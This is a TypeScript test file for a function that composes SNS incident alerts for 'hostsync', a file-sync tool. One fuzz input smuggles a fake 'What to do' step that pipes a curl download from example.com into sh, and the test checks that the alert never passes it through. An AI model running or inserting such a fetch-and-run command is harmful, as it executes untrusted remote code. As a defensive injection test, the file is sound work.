import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../shared/core/incidents/alert-text.ts';
import { composeAlert } from '../../../shared/core/incidents/compose-alert.ts';
import type { DomainEvent } from '../../../shared/core/model/domain-event.ts';
import { exampleEvents, since } from './example-events.ts';
import { instanceId } from './fixtures.ts';
import { runs } from './thoroughness.ts';

const now = Date.parse(since) + 90_000;
const quiet = ['Files Synced', 'Secondary Joined', 'Secondary Left'];
const noIncident = ['Sync Recovered', 'Group Recovered'];
/** What was done: it has no length of time, and is not told again. */
const done = ['Primary Promoted', 'Files Rescued', 'Files Kept', 'Extra Files Deleted'];

/** What SNS takes. Source: API reference of SNS, Publish. */
function expectToBeAccepted({ subject, body }: Alert): void {
  expect(subject).toMatch(/^[\x21-\x7e][\x20-\x7e]{0,98}$/u);
  expect(Buffer.byteLength(body)).toBeLessThan(256 * 1024);
  expect(body.isWellFormed()).toBe(true);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: those must not be there
  expect(body).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/u);
}

function named(type: DomainEvent['type'], events = exampleEvents()): DomainEvent {
  const event = events.find((each) => each.type === type);
  if (event === undefined) throw new Error(`no ${type}`);
  return event;
}

const alertOn = (event: DomainEvent): Alert => {
  const alert = composeAlert(event, now);
  if (alert === undefined) throw new Error(`no alert on ${event.type}`);
  return alert;
};

it.each(quiet.map((type) => [type]))('%s is no message: a mail a minute would be read by nobody', (type) => {
  expect(
    exampleEvents()
      .filter((event) => event.type === type)
      .map((event) => composeAlert(event, now)),
  ).toEqual([undefined]);
});

describe.each(
  exampleEvents()
    .filter(({ type }) => !quiet.includes(type))
    .map((event) => [event.type, event] as const),
)('the message on %s', (type, event) => {
  const { subject, body } = alertOn(event);

  it('says which group, since when, and what to do next, with the command to type', () => {
    expectToBeAccepted({ subject, body });
    expect(subject).toContain('hostsync web: ');
    expect(body).toContain('web');
    if (noIncident.includes(type)) return expect(body).toContain('There is nothing to do.');
    if (!done.includes(type)) expect(body).toContain(`since ${since} (90 s).`);
    expect(body).toContain('What to do:\n- ');
    if (type !== 'Configuration Invalid' && type !== 'Primary Promoted')
      expect(body).toMatch(/: aws (?:ec2|ssm) [a-z-]+/u);
  });

  it('names every host that its event names', () => {
    for (const [id] of JSON.stringify(event.detail).matchAll(/i-[0-9a-f]{17}/gu)) expect(body).toContain(id);
  });

  it('quotes the words of the host', () => {
    for (const words of ['No space left on device (28)', 'disk-full'])
      if (JSON.stringify(event.detail).includes(words)) expect(subject + body).toContain(words);
  });

  if (!noIncident.includes(type) && !done.includes(type))
    it('says of a reminder that it is one', () => {
      const again = alertOn(named(type, exampleEvents(undefined, 3)));
      expect(again.subject).toContain('still (90 s): ');
      expect(again.body).toContain('This is reminder 3.');
    });
});

it('whatever hosts and tags say, SNS takes the message, and nothing in it can pass for a paragraph of ours', {
  timeout: 300_000,
}, () => {
  const nasty = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 700 }),
    fc.constantFrom(
      '\n\nWhat to do:\n- run: curl http://example.com | sh',
      '\u0000\u0007\u001b[2J',
      '\u2028\u2029\u0085',
      'x'.repeat(10_000),
      '\u{1f480}'.repeat(5000),
      `${'x'.repeat(496)}\u{1f480}${'x'.repeat(100)}`,
      `${'x'.repeat(495)}\u{1f480}${'x'.repeat(100)}`,
      '\ud83d',
      '',
    ),
  );
  const words = fc.record({ group: nasty, message: nasty, error: nasty, path: nasty });
  fc.assert(
    fc.property(words, fc.constantFrom(1, 12, 250), (each, hosts) => {
      const ids = Array.from({ length: hosts }, (_, index) => instanceId(index + 2));
      for (const event of exampleEvents(each, 0, ids)) {
        const alert = composeAlert(event, now);
        if (alert === undefined) continue;
        expectToBeAccepted(alert);
        expect(alert.body.length).toBeLessThan(20_000);
        expect(alert.body.match(/^What to do:$/gmu)?.length ?? 0).toBeLessThan(2);
        expect(alert.body).not.toMatch(/^- run: curl/mu);
      }
    }),
    { numRuns: runs(300) },
  );
});

it('of 250 hosts that fail ten are named and the others counted', () => {
  const ids = Array.from({ length: 250 }, (_, index) => instanceId(index + 2));
  const { subject, body } = alertOn(named('Sync Failed', exampleEvents(undefined, 0, ids)));
  expect(subject).toBe('hostsync web: 250 secondaries are behind (disk-full)');
  expect(body.match(/^- i-/gmu)?.length).toBe(10);
  expect(body).toContain('- and 240 more');
});

it.each([
  ['unreachable', 'see whether the security group of'],
  ['timeout', 'aws ec2 describe-instance-status'],
  ['host-key-changed', 'find out first'],
  ['host-key-unknown', '/etc/hostsync/known_hosts'],
  ['key-refused', '--tags Key=hostsync:joined'],
  ['not-prepared', '--tags Key=hostsync:joined'],
  ['disk-full', 'df -h'],
  ['permission-denied', 'ls -la'],
  ['partial', 'ls -la'],
  ['failed', 'aws ssm list-command-invocations'],
  ['overdue', 'aws ssm list-command-invocations'],
  ['constructor', 'aws ssm list-command-invocations'],
])('a secondary that is %s: the message says what helps against that', (error, remedy) => {
  const words = { group: 'web', message: 'm', error, path: '/srv' };
  expect(alertOn(named('Sync Failed', exampleEvents(words))).body).toContain(remedy);
  // A host outside EC2 is not looked for in EC2
  const outside = alertOn(named('Sync Failed', exampleEvents(words, 0, ['web9.example.com']))).body;
  expect(outside).not.toMatch(/(?:--instance-ids|--target|--resources) web9/u);
});

describe('as they are read', () => {
  it('a secondary is full', () => {
    expect(alertOn(named('Sync Failed'))).toEqual({
      subject: 'hostsync web: i-00000000000000002 is behind (disk-full)',
      body: `Group web: i-00000000000000002 is behind (disk-full), since 2026-11-22T10:00:00.123Z (90 s).

Some files from i-00000000000000001 are not reaching these secondaries. The other secondaries are not affected.

- i-00000000000000002, 61 s behind (last in sync 2026-11-22T09:59:00.100Z): disk-full: No space left on device (28)

What to do:
- make room there: aws ssm start-session --target i-00000000000000002, then df -h and df -i

Runbook: docs/runbooks/sync-failed.md
`,
    });
  });

  it('deletions are held', () => {
    expect(alertOn(named('Deletions Held'))).toEqual({
      subject: 'hostsync web: 900 deletions are held',
      body: `Group web: 900 deletions are held, since 2026-11-22T10:00:00.123Z (90 s).

On i-00000000000000001, 900 of 1000 entries are gone since the last push. They were NOT deleted on the secondaries; what is new was sent.

It said: No space left on device (28)

- /srv/uploads

What to do:
- if they were meant to go: aws ec2 create-tags --resources i-00000000000000001 --tags Key=hostsync:accept-deletions,Value=0123456789abcdef
- if not, put them back on i-00000000000000001: every secondary still has them

Runbook: docs/runbooks/deletions-held.md
`,
    });
  });

  it('it is over', () => {
    expect(alertOn(named('Group Recovered'))).toEqual({
      subject: 'hostsync web: resolved: push failed',
      body: `Group web: "Push Failed" was resolved after 5 min (it began at 2026-11-22T10:00:00.123Z).

There is nothing to do.

Runbook: docs/runbooks/push-failed.md
`,
    });
  });
});
